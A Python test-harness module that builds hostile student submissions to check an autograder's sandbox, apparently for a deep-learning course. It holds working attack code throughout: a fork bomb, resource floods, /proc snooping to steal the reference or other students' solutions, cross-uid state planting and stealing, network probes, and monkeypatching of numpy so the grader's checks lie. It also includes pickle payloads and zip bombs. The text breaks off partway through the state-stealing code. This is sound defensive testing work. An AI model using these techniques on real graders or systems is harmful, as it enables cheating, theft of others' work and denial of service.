"""Hostile submissions, derived from a correct one, for grading tests.

    from tests.hostile_submissions import HOSTILE_KINDS, make_hostile
    for hostile in HOSTILE_KINDS:
        path = make_hostile(hostile.kind, good_submission_dir, tmp_path)
        ...grade `path` with the good submission and compare with hostile.outcome

A code kind copies the good submission folder and rewrites
`cs231n/classifiers/k_nearest_neighbor.py` (the staging step only takes the
graded files, so the attack must live in a graded module). Most kinds append
a block that replaces every public function and method the module defines;
they make no assumption about the module beyond its path. Archive kinds
return a crafted .zip instead of a folder.

Outcomes, relative to grading the good submission in the same batch:
    knn_zero      every test of the kNN module scores 0 and its feedback matches
                  `message`; every other test scores as for the good submission
    same_as_good  the attack fails silently and every test scores as for the
                  good submission (had it worked, the kNN tests would fail:
                  the submission raises "HOSTILE ... LEAKED" when it succeeds)
    same_as:KIND  every test scores as for the submission of kind KIND
    control       no expectation of its own: the reference for a same_as kind
    rejected      nothing is graded (every test 0); feedback matches `message`
    notebook_dropped  code tests score as for the good submission; the broken
                  notebook is left out with a message matching `message`

TORCH_HOSTILE_KINDS attack assignment 2's PyTorch part instead: they rewrite
`cs231n/pytorch_models.py` or replace the saved network
`artifacts/PyTorch_model.npz`, and their outcomes are
    fails:REGEX   the tests of test_pytorch.py whose name matches REGEX score 0
                  and say `message`; every other test scores as for the good
                  submission
or same_as / control, as above, within the torch batch. CAPTION_HOSTILE_KINDS and
GENERATOR_HOSTILE_KINDS and DDPM_HOSTILE_KINDS do the same to assignment 3's saved
Transformer, DCGAN generator and DDPM U-Net (fails:REGEX on test_trained_transformer.py,
test_trained_generators.py, test_trained_ddpm.py).

Every kind also expects: the grader finishes, and after grading no process
of a worker uid survives (`surviving_worker_processes()` is empty).

Grade these only with isolation "bwrap" (or "rlimits", which is expected to
leak to read_hidden_tests and network): unconfined, write_outside really
writes marker files (never overwriting anything) and the daemons really run.
"""
import dataclasses
import os
import shlex
import shutil
import stat
import zipfile
from pathlib import Path

import numpy as np

KNN = "cs231n/classifiers/k_nearest_neighbor.py"
MARKER = "HOSTILE_MARKER"  # name part of any file an attack manages to write
FIRST_WORKER_UID, WORKER_UIDS = 61000, 512  # autograder.sandbox.slots


@dataclasses.dataclass(frozen=True)
class Hostile:
    kind: str
    does: str       # what the submission tries
    outcome: str    # knn_zero | same_as_good | rejected | notebook_dropped
    message: str    # regex expected in the feedback ("" when nothing is to be said)


HOSTILE_KINDS = [
    Hostile("syntax_error", "a syntax error in the kNN module", "knn_zero", r"SyntaxError|syntax error"),
    Hostile("import_error", "imports a module that does not exist", "knn_zero", r"ModuleNotFoundError"),
    Hostile("missing_class", "deletes everything the module defines", "knn_zero", r"has no attribute"),
    Hostile("wrong_signature", "methods take no arguments", "knn_zero", r"TypeError"),
    Hostile("sys_exit_at_import", "sys.exit(0) while being imported", "knn_zero", r"tried to exit"),
    Hostile("os_exit_at_import", "os._exit(0) while being imported", "knn_zero", r"crashed the worker"),
    Hostile("sys_exit_in_method", "sys.exit(0) in every method", "knn_zero", r"tried to exit"),
    Hostile("os_exit_in_method", "os._exit(0) in every method", "knn_zero", r"crashed the worker"),
    Hostile("infinite_loop", "every method loops forever", "knn_zero", r"did not finish within|time budget"),
    Hostile("huge_allocation", "allocates 50 GB in every method", "knn_zero", r"MemoryError|Unable to allocate|crashed"),
    Hostile("segfault", "reads address 0 (SIGSEGV) in every method", "knn_zero", r"crashed the worker"),
    Hostile("protocol_garbage", "writes garbage on the grader's response pipe", "knn_zero",
            r"broke the connection|crashed the worker"),
    Hostile("eq_always_true", "returns an object equal to everything", "knn_zero", r"should be a NumPy array"),
    Hostile("ndarray_subclass", "returns zeros of the right shape as an ndarray subclass whose == is "
            "always True (the wire sends its plain values, so it scores as the zeros it holds)",
            "same_as:returns_zeros", ""),
    Hostile("returns_zeros", "honest but wrong: every array result is zeros of the right shape",
            "control", ""),
    Hostile("monkeypatch_checks", "returns zeros and, at import, patches the numpy functions the "
            "grader's checks use (abs, max, isfinite...) and builtins.abs to lie to grader code, "
            "and replaces pytest and autograder in sys.modules",
            "same_as:returns_zeros", ""),
    Hostile("read_hidden_tests", "looks for the hidden suites, the reference solution and the grader",
            "same_as_good", ""),
    Hostile("write_outside", "writes marker files into the submission, the repo and results paths",
            "same_as_good", ""),
    Hostile("network", "connects to local services and the internet", "same_as_good", ""),
    Hostile("background_process", "leaves a daemon (double fork + setsid) running", "same_as_good", ""),
    Hostile("fork_bomb", "forks until refused (at most 1000), the children idle forever", "same_as_good", ""),
    Hostile("print_flood", "prints 1 GiB on its first call", "same_as_good", ""),
    Hostile("symlink_to_reference", "the kNN module is a symlink to the reference solution",
            "rejected", r"symbolic link"),
    Hostile("zip_dotdot", "a .zip entry named ../../escaped.py", "rejected", r"outside the folder"),
    Hostile("zip_absolute", "a .zip entry with an absolute path", "rejected", r"absolute path"),
    Hostile("zip_symlink", "a .zip entry that is a symlink to the reference solution", "rejected",
            r"symbolic link"),
    Hostile("zip_bomb", "a .zip entry of 300 MiB of zeros", "rejected", r"zip bomb"),
    Hostile("invalid_notebook", "a notebook that is not JSON", "notebook_dropped", r"is not valid JSON"),
    # Issue 12, finding 1: the rlimits fallback showed the trusted processes'
    # command lines and a world-readable source tree.
    Hostile("proc_snoop", "blank code that reads every command line in /proc, follows the paths it finds "
            "(--reference-root, --submission, --log, ...) and runs the reference or another student's "
            "kNN module if it can read one", "knn_zero", r"HOSTILE_BLANK"),
    # Finding 2: per-uid kernel state outlived the worker.
    Hostile("state_plant", "correct code that also leaves its kNN source in the kernel keyring, SysV "
            "shared memory, a POSIX message queue, files in /tmp, /var/tmp and /dev/shm and on an "
            "abstract unix socket", "same_as_good", ""),
    Hostile("state_steal", "blank code that looks for state_plant's source in those places for 8 s "
            "and runs it if found", "knn_zero", r"HOSTILE_BLANK"),
    # Finding 3: limits per process, memory that is not mapped, no inode limit, no CPU share.
    Hostile("children_memory", "three children touch 1.5 GiB each at the same time (4.5 GiB; "
            "the worker's limit is 4 GiB)", "same_as_good", ""),
    Hostile("memfd_hoard", "a child writes 72 memfds of 64 MiB (4.5 GiB, never mapped)", "same_as_good", ""),
    Hostile("tmp_inodes", "creates 250,000 empty files in its temporary folder", "same_as_good", ""),
    Hostile("spinners", "eight setsid children spin for 3 s; it measures the cores they got",
            "same_as_good", ""),
]

TORCH_MODULE = "cs231n/pytorch_models.py"
TORCH_ARTIFACT = "artifacts/PyTorch_model.npz"
# The tests of test_pytorch.py that run the network of build_model(), and those that
# call three_layer_convnet (not its initializer, not the module versions).
_BUILD_MODEL_TESTS = r"test_build_model|test_saved_model"
_FUNCTION_TESTS = r"test_three_layer_convnet_(shape|with_identity|matches|keeps)"
_SAVED_MODEL_TESTS = r"test_saved_model"

TORCH_HOSTILE_KINDS = [
    Hostile("torch_forward_sleeps", "the network of build_model() sleeps 1000 s in forward",
            f"fails:{_BUILD_MODEL_TESTS}", r"did not finish within"),
    Hostile("torch_forward_allocates_50gb", "the network of build_model() allocates 50 GB (torch.ones) in "
            "forward", f"fails:{_BUILD_MODEL_TESTS}", r"can't allocate memory|MemoryError|crashed the worker"),
    Hostile("torch_state_dict_pickle", "the saved network is a pickle whose loading runs code (it would "
            "write marker files)", f"fails:{_SAVED_MODEL_TESTS}", r"is not a file written by np\.savez"),
    Hostile("torch_state_dict_torch_save", "the saved network is written by torch.save (a zip holding a "
            "pickle, here with a payload)", f"fails:{_SAVED_MODEL_TESTS}", r"holds no arrays"),
    Hostile("torch_state_dict_object_array", "the saved network is an .npz whose array is an object array "
            "(a pickle, with a payload)", f"fails:{_SAVED_MODEL_TESTS}", r"is not a file written by np\.savez"),
    Hostile("torch_build_model_not_module", "build_model() returns a function, not an nn.Module",
            f"fails:{_BUILD_MODEL_TESTS}", r"build_model\(\) should return an nn\.Module"),
    Hostile("torch_wrong_dtype", "three_layer_convnet returns float16 scores and the network of "
            "build_model() float64 ones", f"fails:{_BUILD_MODEL_TESTS}|{_FUNCTION_TESTS}",
            r"dtype torch\.float64"),
    Hostile("torch_wrong_device", "three_layer_convnet and the network of build_model() return tensors on "
            "the meta device (no values)", f"fails:{_BUILD_MODEL_TESTS}|{_FUNCTION_TESTS}", r"device meta"),
    Hostile("torch_zero_scores", "honest but wrong: the network of build_model() scores every image 0",
            "control", ""),
    Hostile("torch_monkeypatch", "scores every image 0 and, at import, patches torch and numpy in the worker "
            "to lie to grader code (argmax, ==, allclose, assert_close)", "same_as:torch_zero_scores", ""),
]

CAPTION_MODULE = "cs231n/classifiers/transformer.py"
CAPTION_ARTIFACT = "artifacts/transformer_captioning.npz"
# The tests of test_trained_transformer.py that score the saved model (the grader builds the
# reference CaptioningTransformer from the file's sizes, in its own process, and samples with it).
_TRAINED_TRANSFORMER_TESTS = r"test_trained_transformer"

# CAPTION_HOSTILE_KINDS attack assignment 3's saved Transformer: the file the grader reads on
# its trusted side. Their outcomes are fails:REGEX on test_trained_transformer.py, as above.
CAPTION_HOSTILE_KINDS = [
    Hostile("caption_pickle", "the saved Transformer is a pickle whose loading runs code (it would write "
            "marker files)", f"fails:{_TRAINED_TRANSFORMER_TESTS}", r"is not a file written by np\.savez"),
    Hostile("caption_object_array", "beside the real weights, the .npz holds an object array (a pickle, with a "
            "payload): the grader reads only the arrays it names, without pickles, so it is never unpickled",
            "same_as_good", ""),
    Hostile("caption_absurd_sizes", "the saved sizes ask the grader to build a model of 10**9 layers of width "
            "2**30 (hours and terabytes, in the grader's own process)", f"fails:{_TRAINED_TRANSFORMER_TESTS}",
            r"should be between 1 and"),
    Hostile("caption_missing_layers", "the sizes say 8 layers; the file holds the weights of 2",
            f"fails:{_TRAINED_TRANSFORMER_TESTS}", r"has no array"),
    Hostile("caption_nan_weight", "one weight of the saved Transformer is NaN",
            f"fails:{_TRAINED_TRANSFORMER_TESTS}", r"finite floating-point numbers"),
    Hostile("caption_npz_bomb", "an array of the .npz inflates to 1 GiB of zeros from a few MiB",
            f"fails:{_TRAINED_TRANSFORMER_TESTS}", r"MiB of arrays"),
]

GENERATOR_MODULE = "cs231n/gan_pytorch.py"
GENERATOR_ARTIFACT = "artifacts/dc_generator.npz"
GENERATOR_JUDGE = "models/mnist_classifier.npz"
# The tests of test_trained_generators.py that judge the saved generator (the grader builds the
# reference build_dc_generator from the file's noise_dim, in its own process, and samples with it).
_TRAINED_GENERATOR_TESTS = r"test_trained_dcgan"

# GENERATOR_HOSTILE_KINDS attack assignment 3's saved DCGAN generator, as the caption kinds do
# the Transformer, and the judge that scores it.
GENERATOR_HOSTILE_KINDS = [
    Hostile("generator_pickle", "the saved generator is a pickle whose loading runs code (it would write "
            "marker files)", f"fails:{_TRAINED_GENERATOR_TESTS}", r"is not a file written by np\.savez"),
    Hostile("generator_object_array", "beside the real weights, the .npz holds an object array (a pickle, with a "
            "payload): the grader matches the reference's names and reads only those, so it is never unpickled",
            "same_as_good", ""),
    Hostile("generator_absurd_noise_dim", "the saved noise_dim asks the grader to build a generator of 10**9 "
            "inputs (4 TB for its first layer, in the grader's own process)", f"fails:{_TRAINED_GENERATOR_TESTS}",
            r"should be between 1 and"),
    Hostile("generator_missing_layer", "the file lacks the last layer's bias", f"fails:{_TRAINED_GENERATOR_TESTS}",
            r"arrays besides noise_dim"),
    Hostile("generator_nan_weight", "one weight of the saved generator is NaN", f"fails:{_TRAINED_GENERATOR_TESTS}",
            r"finite floating-point numbers"),
    Hostile("generator_negative_variance", "BatchNorm's running variances are negative (NaN images in eval mode)",
            f"fails:{_TRAINED_GENERATOR_TESTS}", r"cannot be negative"),
    Hostile("generator_npz_bomb", "an array of the .npz inflates to 1 GiB of zeros from a few MiB",
            f"fails:{_TRAINED_GENERATOR_TESTS}", r"MiB of arrays"),
    Hostile("generator_forged_judge", "the submission's copy of the judge (models/mnist_classifier.npz) is "
            "replaced by one that calls every image a confident 0: the grader reads its own copy",
            "same_as_good", ""),
]

DDPM_MODULE = "cs231n/gaussian_diffusion.py"
DDPM_ARTIFACT = "artifacts/ddpm_unet.npz"
_TRAINED_DDPM_TESTS = r"test_trained_ddpm"

# DDPM_HOSTILE_KINDS attack assignment 3's saved U-Net (test_trained_ddpm.py loads it into the
# reference UNet and samples with it in the grader's own process).
DDPM_HOSTILE_KINDS = [
    Hostile("ddpm_pickle", "the saved U-Net is a pickle whose loading runs code (it would write marker files)",
            f"fails:{_TRAINED_DDPM_TESTS}", r"is not a file written by np\.savez"),
    Hostile("ddpm_object_array", "beside the real weights, the .npz holds an object array (a pickle, with a "
            "payload): the grader reads only the arrays it names, so it is never unpickled", "same_as_good", ""),
    Hostile("ddpm_nan_weight", "one weight of the saved U-Net is NaN", f"fails:{_TRAINED_DDPM_TESTS}",
            r"finite floating-point numbers"),
    Hostile("ddpm_npz_bomb", "an array of the .npz inflates to 1 GiB of zeros from a few MiB",
            f"fails:{_TRAINED_DDPM_TESTS}", r"MiB of arrays"),
]

KINDS = {hostile.kind: hostile for hostile in HOSTILE_KINDS + TORCH_HOSTILE_KINDS + CAPTION_HOSTILE_KINDS
         + GENERATOR_HOSTILE_KINDS + DDPM_HOSTILE_KINDS}


def make_hostile(kind, good_submission_dir, dest_dir):
    """Build the hostile submission `kind` from a correct one; returns its path.

    Code kinds give a folder `dest_dir/kind`, archive kinds a `dest_dir/kind.zip`.
    """
    if kind not in KINDS:
        raise ValueError(f"unknown hostile kind {kind!r}; see HOSTILE_KINDS")
    good, dest_dir = Path(good_submission_dir), Path(dest_dir)
    dest_dir.mkdir(parents=True, exist_ok=True)
    if kind.startswith("zip_"):
        return _make_zip(kind, good, dest_dir / f"{kind}.zip")
    dest = dest_dir / kind
    shutil.copytree(good, dest)
    if kind.startswith("torch_"):
        _make_torch_hostile(kind, dest)
        return dest
    if kind.startswith("caption_"):
        _make_caption_hostile(kind, dest)
        return dest
    if kind.startswith("generator_"):
        _make_generator_hostile(kind, dest)
        return dest
    if kind.startswith("ddpm_"):
        _attack_saved_arrays(kind, dest, DDPM_ARTIFACT, {})
        return dest
    knn = dest / KNN
    if kind == "symlink_to_reference":
        knn.unlink()
        knn.symlink_to(_reference_knn())
    elif kind == "invalid_notebook":
        notebook = sorted(dest.rglob("*.ipynb"))[0]
        notebook.write_text('{"cells": [ this is not JSON')
    elif kind == "syntax_error":
        knn.write_text(knn.read_text() + "\n\ndef knn_helper(:\n    return 1\n")
    elif kind == "import_error":
        knn.write_text("import not_a_real_module_for_hostile_tests\n" + knn.read_text())
    else:
        knn.write_text(knn.read_text() + _appended_block(kind))
    return dest


def surviving_worker_processes():
    """Pids of live processes running as any sandbox worker uid.

    Empty after grading, as long as no other grading runs on this machine.
    """
    pids = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/status") as status:
                fields = dict(line.split(":", 1) for line in status if ":" in line)
        except OSError:
            continue
        uid = int(fields.get("Uid", "-1").split()[0])
        if FIRST_WORKER_UID <= uid < FIRST_WORKER_UID + WORKER_UIDS and not fields.get("State", "").strip().startswith("Z"):
            pids.append(int(name))
    return pids


def _reference_knn():
    return Path(__file__).resolve().parents[1] / "source" / KNN


# ---- code appended to the kNN module ------------------------------------------

# Replaces every public function and public method the module defines with
# make(original). Names start with "_hostile" so the replacement skips them.
_REPLACE_ALL = '''

# ---- appended by tests/hostile_submissions.py: {kind} ----
def _hostile_replace_all(make):
    import inspect
    namespace = globals()
    for name, value in list(namespace.items()):
        if name.startswith("_") or getattr(value, "__module__", None) != __name__:
            continue
        if inspect.isfunction(value):
            namespace[name] = make(value)
        elif inspect.isclass(value):
            for attribute, member in list(vars(value).items()):
                if inspect.isfunction(member) and not attribute.startswith("_"):
                    setattr(value, attribute, make(member))

def _hostile_before_each_call(check):
    # check() runs before every public method is looked up and every public function is
    # called, while the methods stay the class body's own: the suites check that the
    # method that runs is the one the class body defines, and an attack that is
    # contained must not lose points for how this harness reaches its methods.
    import functools, inspect
    namespace = globals()
    for name, value in list(namespace.items()):
        if name.startswith("_") or getattr(value, "__module__", None) != __name__:
            continue
        if inspect.isfunction(value):
            def checked(*args, _original=value, **kwargs):
                check()
                return _original(*args, **kwargs)
            namespace[name] = functools.wraps(value)(checked)
        elif inspect.isclass(value):
            def __getattribute__(self, attribute, _base=value.__getattribute__):
                if not attribute.startswith("_") and inspect.isfunction(getattr(type(self), attribute, None)):
                    check()
                return _base(self, attribute)
            value.__getattribute__ = __getattribute__
'''

# Attacks that succeed make every method raise, so a leak costs the kNN points.
_RAISE_IF_LEAKED = '''
def _hostile_guard():
    if _HOSTILE_LEAKS:
        raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(_HOSTILE_LEAKS[:5]))

_hostile_before_each_call(_hostile_guard)
'''

_ATTACKS = {
    "missing_class": '''
for _hostile_name in [n for n, v in list(globals().items())
                      if not n.startswith("_") and getattr(v, "__module__", None) == __name__]:
    del globals()[_hostile_name]
''',
    "wrong_signature": '''
def _hostile_no_arguments(original):
    def no_arguments(self):
        return None
    return no_arguments

_hostile_replace_all(_hostile_no_arguments)
''',
    "sys_exit_at_import": "\nimport sys as _hostile_sys\n_hostile_sys.exit(0)\n",
    "os_exit_at_import": "\nimport os as _hostile_os\n_hostile_os._exit(0)\n",
    "sys_exit_in_method": '''
def _hostile_exit(original):
    def exits(*args, **kwargs):
        import sys
        sys.exit(0)
    return exits

_hostile_replace_all(_hostile_exit)
''',
    "os_exit_in_method": '''
def _hostile_exit(original):
    def exits(*args, **kwargs):
        import os
        os._exit(0)
    return exits

_hostile_replace_all(_hostile_exit)
''',
    "infinite_loop": '''
def _hostile_loop(original):
    def loops(*args, **kwargs):
        while True:
            pass
    return loops

_hostile_replace_all(_hostile_loop)
''',
    "huge_allocation": '''
def _hostile_allocate(original):
    def allocates(*args, **kwargs):
        import numpy
        return numpy.ones(50 * 10**9 // 8).sum()
    return allocates

_hostile_replace_all(_hostile_allocate)
''',
    "segfault": '''
def _hostile_segfault(original):
    def crashes(*args, **kwargs):
        import ctypes
        return ctypes.string_at(0)  # reads address 0: SIGSEGV
    return crashes

_hostile_replace_all(_hostile_segfault)
''',
    "protocol_garbage": '''
def _hostile_garbage(original):
    def garbage(*args, **kwargs):
        import os
        for fd in range(3, 64):
            try:
                os.write(fd, b"\\xff" * 64)
            except OSError:
                pass
        return original(*args, **kwargs)
    return garbage

_hostile_replace_all(_hostile_garbage)
''',
    "eq_always_true": '''
class _HostileEqualToEverything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

def _hostile_liar(original):
    def lies(*args, **kwargs):
        original(*args, **kwargs)
        return _HostileEqualToEverything()
    return lies

_hostile_replace_all(_hostile_liar)
''',
    "ndarray_subclass": '''
import numpy as _hostile_np

class _HostileArray(_hostile_np.ndarray):
    def __eq__(self, other):
        return _hostile_np.ones(_hostile_np.shape(other), dtype=bool)

def _hostile_subclass(original):
    def disguised(*args, **kwargs):
        result = original(*args, **kwargs)
        if isinstance(result, _hostile_np.ndarray):
            return _hostile_np.zeros_like(result).view(_HostileArray)
        return result
    return disguised

_hostile_replace_all(_hostile_subclass)
''',
    "returns_zeros": '''
import numpy as _hostile_np

def _hostile_zeros(original):
    def zeros(*args, **kwargs):
        result = original(*args, **kwargs)
        return _hostile_np.zeros_like(result) if isinstance(result, _hostile_np.ndarray) else result
    return zeros

_hostile_replace_all(_hostile_zeros)
''',
    # The patched functions lie only when called from the grader's modules
    # (as autograder.testkit.checks would be, were it in this process), so the
    # student's own code keeps working and the grade must equal the control's.
    "monkeypatch_checks": '''
import builtins as _hostile_builtins, sys as _hostile_sys, types as _hostile_types
import numpy as _hostile_np

def _hostile_lie(real, lie):
    def patched(*args, **kwargs):
        caller = _hostile_sys._getframe(1).f_globals.get("__name__", "")
        if caller.startswith(("autograder", "testkit", "pytest", "_pytest")):
            return lie(*args, **kwargs)
        return real(*args, **kwargs)
    return patched

_hostile_zeros_like_shape = lambda x, *a, **k: _hostile_np.zeros(_hostile_np.shape(x))
_hostile_np.abs = _hostile_np.absolute = _hostile_lie(_hostile_np.abs, _hostile_zeros_like_shape)
_hostile_np.max = _hostile_np.amax = _hostile_lie(_hostile_np.max, lambda *a, **k: 0.0)
_hostile_np.isfinite = _hostile_lie(_hostile_np.isfinite,
                                    lambda x, *a, **k: _hostile_np.ones(_hostile_np.shape(x), dtype=bool))
_hostile_np.isnan = _hostile_lie(_hostile_np.isnan,
                                 lambda x, *a, **k: _hostile_np.zeros(_hostile_np.shape(x), dtype=bool))
_hostile_np.all = _hostile_lie(_hostile_np.all, lambda *a, **k: True)
_hostile_np.allclose = _hostile_lie(_hostile_np.allclose, lambda *a, **k: True)
_hostile_np.array_equal = _hostile_lie(_hostile_np.array_equal, lambda *a, **k: True)
_hostile_np.testing.assert_allclose = _hostile_lie(_hostile_np.testing.assert_allclose, lambda *a, **k: None)
_hostile_builtins.abs = _hostile_lie(_hostile_builtins.abs, lambda x: 0)
_hostile_sys.modules["pytest"] = _hostile_types.ModuleType("pytest")
for _hostile_name in ("autograder", "autograder.testkit", "autograder.testkit.checks"):
    _hostile_sys.modules[_hostile_name] = _hostile_types.ModuleType(_hostile_name)

def _hostile_zeros(original):
    def zeros(*args, **kwargs):
        result = original(*args, **kwargs)
        return _hostile_np.zeros_like(result) if isinstance(result, _hostile_np.ndarray) else result
    return zeros

_hostile_replace_all(_hostile_zeros)
''',
    "read_hidden_tests": '''
def _hostile_find_secrets():
    import os
    leaks, starts = [], {"/", os.getcwd(), os.path.dirname(os.path.abspath(__file__))}
    for up in list(starts):
        while up not in ("/", ""):
            up = os.path.dirname(up)
            starts.add(up)
    wanted = ("suites", "autograder", "source", "reference", "solutions", "hidden")
    for start in sorted(starts):
        for folder, dirs, files in os.walk(start):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "site-packages")]
            if folder.count(os.sep) > 6:
                dirs[:] = []
            if any(part in wanted for part in folder.split(os.sep)):
                for name in files:
                    if name.endswith(".py"):
                        try:
                            with open(os.path.join(folder, name)) as f:
                                f.read(1)
                            leaks.append(os.path.join(folder, name))
                        except OSError:
                            pass
            if len(leaks) > 5:
                return leaks
    try:
        import autograder  # noqa: F401
        leaks.append("import autograder")
    except ImportError:
        pass
    return leaks

_HOSTILE_LEAKS = _hostile_find_secrets()
''',
    "write_outside": '''
def _hostile_write_everywhere():
    import os
    leaks, places = [], {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/",
                         "/autograder/results", "/work/main", "/work/main/build", "/results"}
    for start in list(places):
        while start not in ("/", ""):
            start = os.path.dirname(start)
            places.add(start)
    for place in sorted(places):
        path = os.path.join(place, "HOSTILE_MARKER_write_outside.txt")
        try:
            with open(path, "x") as f:  # never overwrite anything
                f.write("written by a hostile submission")
            leaks.append(path)
        except OSError:
            pass
    return leaks

_HOSTILE_LEAKS = _hostile_write_everywhere()
''',
    "network": '''
def _hostile_connect():
    import socket
    leaks = []
    for host, port in [("127.0.0.1", p) for p in (22, 80, 443, 5432, 6379, 8000, 8080, 8888)] + [
            ("1.1.1.1", 53), ("8.8.8.8", 53)]:
        try:
            socket.create_connection((host, port), timeout=0.2).close()
            leaks.append(f"{host}:{port}")
        except OSError:
            pass
    return leaks

_HOSTILE_LEAKS = _hostile_connect()
''',
    "background_process": '''
def _hostile_daemon():
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    return []

_HOSTILE_LEAKS = _hostile_daemon()
''',
    "fork_bomb": '''
def _hostile_fork_bomb():
    # Forks until the process limit refuses; bounded at 1000 so that an
    # accidental unconfined run (isolation "none") cannot take the machine down.
    import os, time
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError:
            return []
        if pid == 0:
            os.closerange(0, 256)
            while True:
                time.sleep(60)
    return ["forked 1000 processes: no process limit"]

_HOSTILE_LEAKS = _hostile_fork_bomb()
''',
    "print_flood": '''
def _hostile_flood():
    import sys
    if not _HOSTILE_FLOODED:
        _HOSTILE_FLOODED.append(True)
        chunk = "x" * 2**20
        for _ in range(1024):
            sys.stdout.write(chunk)
        sys.stdout.flush()

_HOSTILE_FLOODED = []
_hostile_before_each_call(_hostile_flood)
''',
}

# Blank code (every method raises NotImplementedError), unless the attack
# stole a kNN module's source into _HOSTILE_STOLEN: then the stolen class's
# functions run instead, and earn the points the attack is after. Whatever else
# it found (suite source, logs) goes into the message, which reaches the feedback.
_BLANK_UNLESS_STOLEN = r'''
def _hostile_stolen_function(qualname):
    if not _HOSTILE_STOLEN_NAMESPACE:
        namespace = {"__name__": "_hostile_stolen"}
        exec(compile(_HOSTILE_STOLEN[0], "stolen", "exec"), namespace)
        _HOSTILE_STOLEN_NAMESPACE.append(namespace)
    found = _HOSTILE_STOLEN_NAMESPACE[0]
    for part in qualname.split("."):
        found = found[part] if isinstance(found, dict) else vars(found)[part]
    return found

def _hostile_blank(original):
    qualname = original.__qualname__
    def blank(*args, **kwargs):
        if _HOSTILE_STOLEN:
            return _hostile_stolen_function(qualname)(*args, **kwargs)
        found = "; LEAKED: " + " | ".join(_HOSTILE_FOUND[:3]) if _HOSTILE_FOUND else ""
        raise NotImplementedError("HOSTILE_BLANK: nothing to steal" + found)
    return blank

_HOSTILE_STOLEN_NAMESPACE = []
_hostile_replace_all(_hostile_blank)
'''

_ATTACKS.update({
    "proc_snoop": r'''
def _hostile_snoop():
    import os
    stolen, found, paths = [], [], set()
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    except OSError:
        pids = []
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    words = f.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            if any(mark in word for word in words for mark in ("pytest", "grade-one", "-root")):
                found.append(f"/proc/{pid}/{name} of the grader")
            for word in words:
                for piece in word.replace("=", "\0").replace(":", "\0").split("\0"):
                    if piece.startswith("/"):
                        paths.add(piece.rstrip("/"))
    knn = "cs231n/classifiers/k_nearest_neighbor.py"
    candidates = set()
    for path in paths:
        while path not in ("", "/"):
            for tail in ("", "source", "reference"):
                candidates.add(os.path.join(path, tail, knn))
            path = os.path.dirname(path)
    mine = os.path.realpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "k_nearest_neighbor.py"))
    for candidate in sorted(candidates):
        try:
            if os.path.realpath(candidate) == mine:
                continue
            with open(candidate) as f:
                text = f.read()
        except OSError:
            continue
        if "HOSTILE" not in text and "NotImplementedError" not in text:
            stolen.append(text)
            found.append(candidate)
    for path in sorted(paths):
        if path.endswith((".log", ".jsonl")) or "suites" in path:
            try:
                with open(path) as f:
                    found.append(path + ": " + f.read(80))
            except OSError:
                pass
    return stolen[:1], found

_HOSTILE_STOLEN, _HOSTILE_FOUND = _hostile_snoop()
''',
    "state_plant": r'''
_HOSTILE_STATE_NAME = "ag_hostile_state"
_HOSTILE_SHM_KEY = 0x41470001

def _hostile_plant():
    import ctypes, os, socket
    source = open(__file__, "rb").read()
    libc = ctypes.CDLL(None, use_errno=True)
    try:   # the user keyring, readable by every uid, for 10 minutes
        key = libc.syscall(248, b"user", _HOSTILE_STATE_NAME.encode(), source, len(source), -4)
        if key > 0:
            libc.syscall(250, 5, key, 0x3F3F3F3F)   # KEYCTL_SETPERM
            libc.syscall(250, 15, key, 600)         # KEYCTL_SET_TIMEOUT
    except Exception:
        pass
    try:   # SysV shared memory, mode 0666: length, then the source
        libc.shmat.restype = ctypes.c_void_p
        shmid = libc.shmget(_HOSTILE_SHM_KEY, 1 << 16, 0o1666)
        if shmid >= 0:
            address = libc.shmat(shmid, None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                payload = len(source).to_bytes(4, "little") + source
                ctypes.memmove(address, payload, len(payload))
                libc.shmdt(ctypes.c_void_p(address))
    except Exception:
        pass
    try:   # a POSIX message queue, mode 0666, in chunks
        mqd = libc.mq_open(b"/" + _HOSTILE_STATE_NAME.encode(), os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o666, None)
        if mqd >= 0:
            for start in range(0, len(source), 4096):
                libc.mq_send(mqd, source[start:start + 4096], len(source[start:start + 4096]), 0)
    except Exception:
        pass
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            path = os.path.join(folder, _HOSTILE_STATE_NAME)
            with open(path, "wb") as f:
                f.write(source)
            os.chmod(path, 0o644)
        except OSError:
            pass
    try:   # a daemon serving the source on an abstract unix socket
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind("\0" + _HOSTILE_STATE_NAME)
        server.listen(8)
        if os.fork() == 0:
            os.setsid()
            while True:
                connection, _ = server.accept()
                connection.sendall(source)
                connection.close()
        server.close()
    except OSError:
        pass

if "__file__" in globals():   # not when a stealer runs this source again
    _hostile_plant()
''',
    "state_steal": r'''
_HOSTILE_STATE_NAME = "ag_hostile_state"
_HOSTILE_SHM_KEY = 0x41470001

def _hostile_steal_once():
    import ctypes, os, socket
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        with open("/proc/keys") as f:
            for line in f:
                if _HOSTILE_STATE_NAME in line:
                    buffer = ctypes.create_string_buffer(1 << 16)
                    size = libc.syscall(250, 11, int(line.split()[0], 16), buffer, len(buffer))   # KEYCTL_READ
                    if size > 0:
                        return buffer.raw[:size], "the keyring"
    except (OSError, ValueError):
        pass
    try:
        libc.shmat.restype = ctypes.c_void_p
        shmid = libc.shmget(_HOSTILE_SHM_KEY, 0, 0)
        if shmid >= 0:
            address = libc.shmat(shmid, None, 0o10000)   # SHM_RDONLY
            if address not in (None, ctypes.c_void_p(-1).value):
                size = int.from_bytes(ctypes.string_at(address, 4), "little")
                return ctypes.string_at(address + 4, size), "SysV shared memory"
    except Exception:
        pass
